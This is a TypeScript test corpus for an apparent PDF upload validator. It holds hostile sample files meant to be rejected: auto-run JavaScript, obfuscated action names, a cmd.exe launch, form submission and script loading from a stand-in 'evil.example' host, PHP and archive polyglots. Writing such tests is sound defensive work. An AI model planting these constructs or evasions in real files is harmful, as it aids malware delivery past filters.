import { deflateSync } from 'node:zlib';
import { acceptedFile, type CorpusFile, rejectedFile, rejectedFilesOfAnyKind } from './corpus-file.ts';
import { makeDocx } from './make-docx.ts';
import { makePdf } from './make-pdf.ts';
import { makeZip } from './make-zip.ts';

const validPdf = makePdf();
const truncate = (end: number): Buffer => validPdf.subarray(0, validPdf.length + end);
const join = (...parts: readonly (string | Buffer)[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));
const zip = makeZip([{ name: 'run.exe', content: 'MZ' }]);
/** An object stream. */
const createObjectStream = (objects: string, dictionary = '/Filter /FlateDecode', type = '/ObjStm'): string => {
  const data = dictionary === '' ? Buffer.from(objects) : deflateSync(objects);
  const head = `<< /Type ${type} /N 1 /First 4 /Length ${data.length} ${dictionary} >>`;
  return `${head}\nstream\n${data.toString('latin1')}\nendstream`;
};
const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
const key = '/Encrypt 9 0 R /ID [<00><00>]';

export const pdfCorpus: readonly CorpusFile[] = [
  acceptedFile('a plain one', 'cv.pdf', () => validPdf),
  acceptedFile('one with a table of objects that is a stream', 'cv.pdf', () => makePdf({ isStream: true })),
  acceptedFile('one of the oldest kind', 'cv.pdf', () => makePdf({ version: '1.0' })),
  acceptedFile('one of the newest kind', 'cv.pdf', () => makePdf({ version: '2.0', isStream: true })),
  acceptedFile('one that ends without a line break', 'cv.pdf', () => makePdf({ end: '%%EOF' })),
  acceptedFile('one with blanks and zeros behind its end', 'cv.pdf', () => join(validPdf, ' \r\n\0\0\0')),
  acceptedFile('one that was changed, and has two ends', 'cv.pdf', () =>
    join(validPdf, validPdf.subarray(validPdf.lastIndexOf('xref\n0'))),
  ),
  acceptedFile('one of five megabytes', 'cv.pdf', () => makePdf({ head: `%${'x'.repeat(4_998_000)}\n` })),
  acceptedFile('one that speaks of keys, and has none', 'cv.pdf', () =>
    makePdf({ pageText: '/Encrypt', trailer: '/EncryptMetadata true' }),
  ),
  acceptedFile('one that was called by its path', 'C:\\fakepath\\My CV.PDF', () => validPdf),
  acceptedFile('one with letters of many languages in its name', '履歴書 – Zoë (2026).pdf', () => validPdf),
  acceptedFile('one with the signs of a zip in its words', 'cv.pdf', () =>
    makePdf({ pageText: 'PK\u0005\u0006 and PK\u0003\u0004' }),
  ),
  acceptedFile('one with words of a page in them, far from its start', 'cv.pdf', () =>
    makePdf({ head: `%${' '.repeat(2000)}<html>\n` }),
  ),
  ...rejectedFilesOfAnyKind('.pdf', () => validPdf),
  rejectedFile('only its first line', 'damaged', 'cv.pdf', () => Buffer.from('%PDF-1.7\n')),
  rejectedFile('first line and end alone', 'damaged', 'cv.pdf', () => Buffer.from('%PDF-1.7\n%%EOF\n')),
  rejectedFile('a first line without a version', 'kind', 'cv.pdf', () => join('%PDF-\n', validPdf)),
  rejectedFile('a version that there is not', 'kind', 'cv.pdf', () => makePdf({ version: '9.9' })),
  rejectedFile('one that was cut off before its end', 'damaged', 'cv.pdf', () => truncate(-6)),
  rejectedFile('its first half', 'damaged', 'cv.pdf', () => validPdf.subarray(0, validPdf.length / 2)),
  rejectedFile('a table of objects behind its end', 'damaged', 'cv.pdf', () =>
    makePdf({ tableOffset: () => 99_999_999 }),
  ),
  rejectedFile('a table of objects where there is none', 'damaged', 'cv.pdf', () => makePdf({ tableOffset: () => 12 })),
  rejectedFile('a place that is no number', 'damaged', 'cv.pdf', () => makePdf({ tableOffset: () => 'here' })),
  rejectedFile('an object in the place of the table', 'damaged', 'cv.pdf', () =>
    makePdf({ tableOffset: () => validPdf.indexOf('1 0 obj') }),
  ),
  rejectedFile('a table without a root', 'damaged', 'cv.pdf', () =>
    join(validPdf.toString('latin1').replace('/Root 1 0 R', '')),
  ),
  rejectedFile('five megabytes behind its end', 'damaged', 'cv.pdf', () => join(validPdf, Buffer.alloc(4_990_000, 32))),
  rejectedFile('a trailer of four megabytes', 'damaged', 'cv.pdf', () => makePdf({ trailer: ' '.repeat(4_000_000) })),
  rejectedFile('an encrypted one', 'locked', 'cv.pdf', () => makePdf({ trailer: key })),
  rejectedFile('an encrypted one with a table that is a stream', 'locked', 'cv.pdf', () =>
    makePdf({ trailer: key, isStream: true }),
  ),
  rejectedFile('an encrypted one that writes the word otherwise', 'locked', 'cv.pdf', () =>
    makePdf({ trailer: key.replace('crypt', '#63rypt') }),
  ),
  rejectedFile('an encrypted one with its key in place', 'locked', 'cv.pdf', () =>
    makePdf({ trailer: '/Encrypt<</Filter/Standard/V 2>>' }),
  ),
  acceptedFile('one that names languages and keys in its words', 'cv.pdf', () =>
    makePdf({ pageText: 'HTML/CSS/JS, Java/JavaScript, /Launch, /EmbeddedFile', catalog: '/Lang (C/JavaScript)' }),
  ),
  acceptedFile('one with harmless objects in a stream of objects', 'cv.pdf', () =>
    makePdf({ object: createObjectStream('9 0 << /Title (About /JavaScript) /S /GoTo >>'), isStream: true }),
  ),
  rejectedFile('a script that runs when it is opened', 'active', 'cv.pdf', () =>
    makePdf({ catalog: `/OpenAction ${script}` }),
  ),
  rejectedFile('a script in an object of its own', 'active', 'cv.pdf', () =>
    makePdf({ catalog: '/AA << /WC 6 0 R >>', object: script }),
  ),
  rejectedFile('a script whose name is written otherwise', 'active', 'cv.pdf', () =>
    makePdf({ object: '<</S/#4AavaScrip#74/J#53(x)>>' }),
  ),
  rejectedFile('a script behind a comment', 'active', 'cv.pdf', () =>
    makePdf({ object: '<< /S %x\n /JavaScript /JS (x) >>' }),
  ),
  rejectedFile('a script whose kind is an object', 'active', 'cv.pdf', () => makePdf({ object: '/JavaScript' })),
  rejectedFile('a script in a stream of objects', 'active', 'cv.pdf', () =>
    makePdf({ object: createObjectStream(`9 0 ${script}`), isStream: true }),
  ),
  rejectedFile('a script in a stream of objects whose name is written otherwise', 'active', 'cv.pdf', () =>
    makePdf({ object: createObjectStream(`9 0 ${script}`, '/Filter[/Fl#61teDecode]', '/Obj#53tm'), isStream: true }),
  ),
  rejectedFile('a script in a stream of objects that is not compressed', 'active', 'cv.pdf', () =>
    makePdf({ object: createObjectStream('9 0 << /S /#4aavaScript >>', ''), isStream: true }),
  ),
  rejectedFile('objects that are compressed as nobody does', 'damaged', 'cv.pdf', () =>
    makePdf({ object: createObjectStream(`9 0 ${script}`, '/Filter /LZWDecode') }),
  ),
  rejectedFile('objects of a hundred megabytes', 'swollen', 'cv.pdf', () =>
    makePdf({ object: createObjectStream(' '.repeat(100_000_000)) }),
  ),
  rejectedFile('a program to start', 'active', 'cv.pdf', () =>
    makePdf({ object: '<< /Type /Action /S /Launch /F (cmd.exe) >>' }),
  ),
  rejectedFile('an action that sends a form', 'active', 'cv.pdf', () =>
    makePdf({ catalog: '/OpenAction << /S /SubmitForm /F (http://evil.example) >>' }),
  ),
  rejectedFile('a form with scripts of its own', 'active', 'cv.pdf', () =>
    makePdf({ catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>' }),
  ),
  rejectedFile('a file inside', 'active', 'cv.pdf', () => makePdf({ catalog: '/Names << /EmbeddedFiles 6 0 R >>' })),
  rejectedFile('a file that is attached to a note', 'active', 'cv.pdf', () =>
    makePdf({ object: '<< /Type /Filespec /EF << /F 7 0 R >> >>' }),
  ),
  rejectedFile('a zip behind it', 'kind', 'cv.pdf', () => join(validPdf, zip)),
  rejectedFile('a zip in it', 'kind', 'cv.pdf', () => makePdf({ head: `%${zip.toString('latin1')}\n` })),
  rejectedFile('a zip in it whose directory knows its place', 'kind', 'cv.pdf', () =>
    makeZip([{ name: 'a', content: 'x' }], { before: validPdf, after: validPdf }),
  ),
  rejectedFile('a zip in it that says a wrong length of its directory', 'kind', 'cv.pdf', () =>
    makeZip([{ name: 'a', content: 'x' }], { before: validPdf, after: validPdf, end: { 12: 1 } }),
  ),
  rejectedFile('a document behind it', 'kind', 'cv.pdf', () => join(validPdf, makeDocx())),
  rejectedFile('a document that is called a PDF', 'kind', 'cv.pdf', () => makeDocx()),
  rejectedFile('a page in its first lines', 'kind', 'cv.pdf', () =>
    makePdf({ head: '%<html><body onload=alert(1)>\n' }),
  ),
  rejectedFile('a script in its first lines', 'kind', 'cv.pdf', () =>
    makePdf({ head: '%<SCRIPT src=//evil.example>\n' }),
  ),
  rejectedFile('a program of a server in its first lines', 'kind', 'cv.pdf', () =>
    makePdf({ head: '%<?php system(1);\n' }),
  ),
  rejectedFile('a RAR archive behind it', 'kind', 'cv.pdf', () => join(validPdf, 'Rar!\u001a\u0007\u0001\u0000')),
  rejectedFile('a 7z archive in it', 'kind', 'cv.pdf', () => makePdf({ head: "%7z\u00bc\u00af'\u001c\n" })),
];
